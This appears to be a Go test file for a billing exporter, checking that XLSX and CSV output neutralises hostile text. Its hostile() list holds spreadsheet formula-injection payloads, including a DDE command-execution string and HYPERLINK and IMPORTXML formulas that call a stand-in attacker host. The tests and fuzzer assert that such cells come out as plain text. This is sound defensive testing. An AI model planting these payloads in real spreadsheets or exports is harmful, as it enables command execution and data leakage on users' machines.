package exporters

import (
	"encoding/csv"
	"encoding/xml"
	"fmt"
	"os"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/mocowork/mocowork/billing"
	"github.com/mocowork/mocowork/plan"
)

const mark = "… [gekürzt]"

// hostile are texts that a file format or a spreadsheet may take for something
// else.
func hostile() []string {
	return []string{
		"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\r\n=1", ";=1", `","=1`, `";=1`, "＝1+1", "＋1", "－1", "＠x",
		`=cmd|'/C calc'!A0`, `=HYPERLINK("http://evil.example","x")`, `=IMPORTXML("http://evil.example","//a")`, `=DDE("a";"b";"c")`,
		" =1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\x00=1", "\x1b=1", "'=1", "''", "'", `"`, `""`, "=",
		"00123", "1e10", "1E400", "1-2", "3/4", "DE89 3704 0044 0532 0130 00", "1.234,56", "TRUE", "#REF!", "NaN", "-5.00",
		"_x0041_", "_x005F_", "_x005F_x0041_", "_x0041_x0042_", "_xD800_", "_xdFff_", "a_x0041_b_x0041_", "_x004_", "__x0041_", "_x0041_x0042_x0043_",
		"Ä & Ö <b>fett</b> ]]> &amp; 'a'", "Zeile 1\nZeile 2", " vorn und hinten ", "\u202eumgekehrt", "😀", "e\u0301",
		"\ufffe\uffff", "a\x80\xffb", "\xed\xa0\x80", "a\u0085b", "%s%d{{.}}", "=SUMME AG", strings.Repeat("ä", 40_000), strings.Repeat("😀", 17_000),
	}
}

// hostileInput has each hostile text in every text of an invoice.
func hostileInput(t testing.TB, texts []string) Input {
	t.Helper()
	in := smallInput(t)
	for i, s := range texts {
		id := billing.ID(i + 1)
		in.Verdicts = append(in.Verdicts, plan.Verdict{
			InvoiceID: id, Identifier: s, CustomerID: id, Customer: s, Status: billing.InvoiceStatus(s), Outcome: plan.OutcomeLeftAlone,
			Gross: amount(t, "-5.00 EUR"), Open: amount(t, "-5.00 EUR"), Reason: s, Receivable: true,
			// The number of days keeps the order of the texts.
			Overdue: true, DaysOverdue: 1000 - i, Due: in.Today.AddDays(i - 1000),
		})
		in.Items = append(in.Items, billing.OpenItem{
			Invoice:  billing.Invoice{ID: id, Tags: []string{s}, User: billing.UserRef{Lastname: s}},
			Customer: billing.Company{Identifier: s}, Project: billing.Project{Name: s},
		})
	}
	return in
}

func TestClean(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("a", 40_000)
	tests := []struct {
		name, in, want string
		c              changes
	}{
		{"plain", "Café & Söhne", "Café & Söhne", changes{}},
		{"tab and line end stay", "a\tb\nc", "a\tb\nc", changes{}},
		{"other line ends", "a\r\nb\rc", "a\nb\nc", changes{}},
		{"NUL and ESC", "a\x00b\x1bc", "a\ufffdb\ufffdc", changes{replaced: 1}},
		{"DEL and C1", "a\x7fb\u0085", "a\ufffdb\ufffd", changes{replaced: 1}},
		{"bad encoding", "a\xffb", "a\ufffdb", changes{replaced: 1}},
		{"forbidden in XML", "\ufffe\uffff", "\ufffd\ufffd", changes{replaced: 1}},
		{"U+FFFD itself is no change", "\ufffd", "\ufffd", changes{}},
		{"just fits", long[:maxText], long[:maxText], changes{}},
		{"one too long", long[:maxText+1], long[:maxText-11] + mark, changes{cut: 1}},
		{"both", "\x00" + long, "\ufffd" + long[:maxText-12] + mark, changes{cut: 1, replaced: 1}},
		{"pairs of UTF-16 are not cut in half", strings.Repeat("😀", 20_000), strings.Repeat("😀", (maxText-11)/2) + mark, changes{cut: 1}},
	}
	for _, tt := range tests {
		var c changes
		got := clean(tt.in, mark, &c)
		if got != tt.want || c != tt.c {
			t.Errorf("%s: %d bytes, %+v; want %d bytes, %+v", tt.name, len(got), c, len(tt.want), tt.c)
		}
		if units(got) > maxText || !utf8.ValidString(got) {
			t.Errorf("%s: the result does not fit in a cell", tt.name)
		}
		if again := clean(got, mark, &changes{}); again != got {
			t.Errorf("%s: cleaning it again changes it", tt.name)
		}
	}
}

// TestHostileTextsInXLSX writes every hostile text and reads it back as Excel
// would: the same text, in a text cell, without a formula.
func TestHostileTextsInXLSX(t *testing.T) {
	t.Parallel()
	texts := hostile()
	in := hostileInput(t, texts)
	f := made(t, in, "a.xlsx")
	sheets := unzip(t, f.Path).sheets(t)
	rows := sheets["Offene Posten"].Rows
	if len(rows) != len(texts)+2 {
		t.Fatalf("%d rows", len(rows))
	}
	want := changes{}
	for i, s := range texts {
		cleaned := clean(s, mark, &want)
		number := i + 3
		for _, column := range []string{"A", "B", "C", "D", "O", "P", "Q", "R"} {
			c := sheets["Offene Posten"].cell(fmt.Sprint(column, number))
			expect := cleaned
			if column == "P" {
				expect = strings.TrimSpace(cleaned) // a name is trimmed
			}
			if expect == "" {
				continue
			}
			if got := c.text(); got != expect && !strings.HasPrefix(column, "P") {
				t.Errorf("%s%d: %.60q came out as %.60q", column, number, s, got)
			}
			if c.Type != "inlineStr" || c.Formula != nil {
				t.Errorf("%s%d: %.60q is of type %q", column, number, s, c.Type)
			}
		}
		if c := sheets["Offene Posten"].cell(fmt.Sprint("L", number)); c.Type != "" || c.Value != "-5" {
			t.Errorf("L%d: the amount is %q of type %q", number, c.Value, c.Type)
		}
	}
	var info strings.Builder
	s := sheets["Info"]
	s.dump(&info)
	// Each text stands in eight cells of its row: number, customer, customer
	// number, project, status, owner, next step, tags.
	for _, line := range []string{
		fmt.Sprintf("\"gekürzte Texte (länger als 32.767 Zeichen)\"\nB%%s n %q", fmt.Sprint(want.cut*8)),
		fmt.Sprintf("\"Texte mit ersetzten Steuerzeichen\"\nB%%s n %q", fmt.Sprint(want.replaced*8)),
	} {
		label, value, _ := strings.Cut(line, "\nB%s ")
		_, after, found := strings.Cut(info.String(), label+"\n")
		if !found || !strings.Contains(strings.SplitN(after, "\n", 2)[0], value) {
			t.Errorf("Info does not say %s %s", label, value)
		}
	}
}

// TestEscapedCharacters looks at the file itself: what Excel would take for an
// escaped character is escaped, also where two of them share an underscore.
func TestEscapedCharacters(t *testing.T) {
	t.Parallel()
	f := made(t, hostileInput(t, []string{"_x0041_", "_x0041_x0042_", "_xD800_"}), "a.xlsx")
	s := unzip(t, f.Path).sheets(t)["Offene Posten"]
	for ref, want := range map[string]string{"B3": "_x005F_x0041_", "B4": "_x005F_x0041_x005F_x0042_", "B5": "_x005F_xD800_"} {
		if got := s.cell(ref).Inline.Text; got != want {
			t.Errorf("%s is stored as %q, want %q", ref, got, want)
		}
	}
}

// TestHostileTextsInCSV reads both dialects back with a plain CSV reader: no
// field but the numbers begins like a formula.
func TestHostileTextsInCSV(t *testing.T) {
	t.Parallel()
	in := hostileInput(t, hostile())
	for name, comma := range map[string]rune{"a.csv": ';', "a.rfc4180.csv": ','} {
		b, err := os.ReadFile(made(t, in, name).Path)
		if err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(b), byteOrderMark)))
		r.Comma = comma
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != len(in.Verdicts)+1 {
			t.Fatalf("%s: %d rows", name, len(rows))
		}
		for _, row := range rows[1:] {
			for i, field := range row {
				if i == 9 || i == 11 {
					if !strings.HasPrefix(field, "-5") {
						t.Errorf("%s: a negative amount is %q", name, field)
					}
					continue
				}
				bare := strings.TrimLeft(field, " \u00a0\u200b\ufeff\ufffd\t\r\n")
				if bare != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(bare)[0]) || strings.ContainsAny(field[:min(1, len(field))], "\t\r\n") {
					t.Errorf("%s: field %.40q is live", name, field)
				}
			}
		}
	}
}

func TestHarmless(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"": "", "Hansa": "Hansa", "a=b": "a=b", "1-2": "1-2", "00123": "00123", "'=1": "'=1", "(=1)": "(=1)",
		"=1": "'=1", "+1": "'+1", "-1": "'-1", "@x": "'@x", " =1": "' =1", "\t": "'\t", "\nx": "'\nx", "\rx": "'\rx",
		"＝1": "'＝1", "＋1": "'＋1", "－1": "'－1", "＠x": "'＠x", "\u200b=1": "'\u200b=1", "\ufffd=1": "'\ufffd=1", "\u00a0-1": "'\u00a0-1",
		"=": "'=", "   ": "   ", "ä=": "ä=",
	} {
		if got := harmless(in); got != want {
			t.Errorf("%q became %q, want %q", in, got, want)
		}
	}
}

// appendCell is a cell as it stands in the file.
func appendCell(t *testing.T, c Cell) []byte {
	t.Helper()
	b, err := appendValue([]byte(`<c r="A1"`), c, "")
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func FuzzTexts(f *testing.F) {
	for _, s := range hostile() {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := clean(s, mark, &changes{})
		if units(got) > maxText || !utf8.ValidString(got) || strings.ContainsFunc(got, unprintable) {
			t.Fatalf("%q became %q", s, got)
		}
		var cell, broken cellXML
		if err := xml.Unmarshal(appendCell(t, text(s)), &broken); err != nil {
			t.Fatalf("%q breaks the file: %v", s, err)
		}
		if v := appendCell(t, text(got)); xml.Unmarshal(v, &cell) != nil || cell.text() != got || cell.Type != "inlineStr" || cell.Formula != nil {
			t.Fatalf("%q was written as %q and is read as %q", got, v, cell.text())
		}
		if h := harmless(got); h != got && h != "'"+got {
			t.Fatalf("%q became %q", got, h)
		}
	})
}
